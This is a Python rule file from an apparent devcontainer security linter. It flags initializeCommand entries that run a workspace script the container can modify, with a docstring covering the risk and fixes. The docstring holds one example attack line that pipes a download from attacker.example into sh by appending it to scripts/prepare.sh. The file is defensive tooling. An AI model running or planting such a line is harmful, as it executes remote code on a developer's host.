"""A file that the container can change runs on the host.

## What it is

An `initializeCommand` that runs a file of the project (`./scripts/prepare.sh`, `make setup`)
while the project is mounted writable and no read-only mount covers the file.

## Why it is bad

Code inside needs no exploit: it appends one line to the script, and at the next start of the
container your editor runs it on the host, with your rights.

    echo 'curl -s https://attacker.example/x | sh' >> scripts/prepare.sh

## What to do instead

Do it inside (`onCreateCommand`), write the command out in the config and pin the config, or
mount the folder of the script read-only over the workspace.

## Under gVisor

No difference: it runs outside of every container.

## References

- https://containers.dev/implementors/json_reference/#lifecycle-scripts
- https://github.com/trailofbits/claude-code-devcontainer/pull/13
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import RuleMeta, Severity
from sandboxd.rules._commands import runs_changeable, suspicious
from sandboxd.rules._finding import at_value
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="initialize-command-runs-workspace-file",
    summary="a file that the container can change runs on the host",
    severity=Severity.ERROR,
    since="0.1.0",
    why="one line appended inside runs on the host, with your rights, at the next start",
    needs=(Field("host_commands"),),
)


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for value in subject.host_commands:
        file = "" if suspicious(value.value) else runs_changeable(value.value, subject)
        if not file:
            continue
        yield at_value(
            META,
            value,
            f"`{file}` runs on the host, and the container can change it",
            file,
        )
